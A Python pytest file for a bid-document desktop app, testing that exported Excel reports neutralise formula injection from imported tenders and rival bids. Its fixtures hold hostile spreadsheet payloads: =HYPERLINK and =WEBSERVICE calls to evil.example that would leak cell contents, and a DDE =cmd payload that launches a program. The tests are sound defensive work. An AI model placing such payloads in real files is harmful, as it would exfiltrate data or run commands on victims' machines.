"""Formula injection (issue 37 §3.6): text from a tender or another bidder's file that begins with
``=`` (``+ - @``, a tab, a carriage return) is written to the 查重 report and the 自评表 as text,
never as a live formula. Each test reopens the written file and checks that no cell is a formula."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from PySide6.QtCore import QSettings

from app.core.analysis import Analysis, ScoringGroup
from app.core.outline import OutlineNode
from app.ui.run.controller import AppController
from app.ui.shell.errors import ErrorReporter
from app.ui.shell.main_window import MainWindow
from tests.ui.ui_helpers import close_window, wait_for

pytestmark = pytest.mark.qt_log_ignore(r"This plugin does not support propagateSizeHints")

#: A drafted section whose sentences answer the criteria's points and open with a formula.
DRAFT = ('=WEBSERVICE("http://evil.example/x")&"针对应急处置预案，我方按火灾、停电、食物中毒三类事件分级响应，'
         '现场负责人五分钟内到场组织处置，每季度组织一次演练并修订预案"。\n'
         '=1+1 服务质量保证措施包括日检、周查和月度考核，发现问题当日整改并复查，确保落实。')
TITLE = "=WEBSERVICE(\"http://evil.example/x\")"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"我方将建立完善的质量管理体系并定期开展内部审核工作")',
    "=cmd|' /C calc'!A0 我方承诺所有服务人员持证上岗并接受岗前培训考核合格后方可上岗",
    '=WEBSERVICE("http://evil.example/x") 项目经理每周组织一次例会并形成会议纪要报采购人备案',
    "+SUM(1+1) 设备进场前完成全部检测并出具检测报告作为验收依据之一",
    "-2+3 服务团队二十四小时待命并在接到通知后三十分钟内到达现场处置",
    "@SUM(1) 我方对所有耗材实行台账管理并每月向采购人报送使用情况统计表",
    "\t=1+1 应急物资按照清单配备齐全并由专人负责定期检查更换过期物资",
    "\r=1+1 保洁作业按照规定频次执行并由主管每日巡查记录作业质量情况",
]


def _no_formulas(path: Path) -> list[str]:
    """Every cell's text; fails when any cell is a formula (openpyxl reads those back as type 'f')."""
    book = openpyxl.load_workbook(str(path))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a live formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.fixture
async def window(qapp: Any, tmp_path: Path, reporter: ErrorReporter,
                 monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[MainWindow]:
    monkeypatch.setenv("BIDSTUDIO_DATA_DIR", str(tmp_path / "data"))
    qapp.setQuitOnLastWindowClosed(False)
    win = MainWindow(AppController(reporter=reporter), reporter=reporter, model_configured=False,
                     qsettings=QSettings(str(tmp_path / "ui.ini"), QSettings.Format.IniFormat))
    win.show()
    yield win
    await close_window(win)
    await asyncio.sleep(0)


async def test_the_check_report_writes_another_bidders_formulas_as_text(window: MainWindow, tmp_path: Path) -> None:
    other = docx.Document()
    for text in HOSTILE:
        other.add_paragraph(text)
    other_path = tmp_path / "对方投标文件.docx"
    other.save(str(other_path))
    # A heading imported from a tender's outline is written as the finding's place (位置).
    window.controller.outline.replace([OutlineNode(title=TITLE, content="\n".join(HOSTILE))])
    lib = window.library
    lib.check_action.trigger()  # type: ignore[union-attr]
    await wait_for(lambda: lib.check_dock.isVisible())
    found = lib.checks.compare_file(other_path)
    assert sum(f.kind == "shared_sentence" for f in found) >= 4
    written = lib.checks.export(tmp_path / "查重结果.xlsx")
    assert written is not None
    texts = _no_formulas(written)
    assert TITLE in texts  # kept verbatim, as text


async def test_the_review_sheet_writes_tender_formulas_as_text(window: MainWindow, tmp_path: Path) -> None:
    from app.ui.evaluation.review_export import export_review

    criteria = ("方案内容包含但不限于：①=HYPERLINK(\"http://evil.example\",\"人员配置方案\")；②@SUM(A1)应急处置预案；"
                "③-2+3服务质量保证措施。方案完整的得10分；方案较完整的得7分；方案简单的得3分。")
    window.controller.set_analysis(Analysis(groups=[
        ScoringGroup(id="R1", title=TITLE, description=criteria, points=10),
        ScoringGroup(id="R2", title="=1+1", description="@SUM(A1) 方案完整的得5分", points=5)]))
    window.controller.outline.replace([OutlineNode(title="服务方案", source_requirement_id="R1",
                                                   content=DRAFT)])
    dock = window.review_dock
    dock.dock.show()
    await wait_for(lambda: dock.review is not None and len(dock.review.items) == 2)
    written = export_review(window, dock, tmp_path / "自评表.xlsx")
    assert written is not None
    texts = _no_formulas(written)
    assert any(t.startswith("=1+1 服务质量保证措施") for t in texts)  # a quote from the text, kept as text
    assert any(t.startswith("@SUM") for t in texts) and any(t.startswith("-2+3") for t in texts)  # criteria


def test_control_characters_and_every_formula_start_stay_text(tmp_path: Path) -> None:
    from app.export.review_sheet import write_review_sheet
    from app.library.checks import Finding
    from app.library.report import write_findings_xlsx

    rows = [[text, "5", "x\x01y", "已响应"] for text in HOSTILE]
    path = write_review_sheet(tmp_path / "r.xlsx", ["评分项", "分值", "评分要点", "状态"], rows)
    sheet = openpyxl.load_workbook(str(path)).active
    assert sheet is not None
    assert [sheet.cell(r, 1).value for r in range(2, 2 + len(HOSTILE))] == HOSTILE
    assert sheet.cell(2, 2).value == 5  # numbers stay numbers
    assert all(sheet.cell(r, 1).quotePrefix for r in range(2, 2 + len(HOSTILE)))
    assert sheet.cell(2, 3).value == "x\ufffdy"  # a control character cannot break the file
    _no_formulas(path)
    report = write_findings_xlsx([Finding("copied", "=1+1", text, "=A1", None, "@x", "-1") for text in HOSTILE],
                                 tmp_path / "c.xlsx")
    assert HOSTILE[0] in _no_formulas(report)
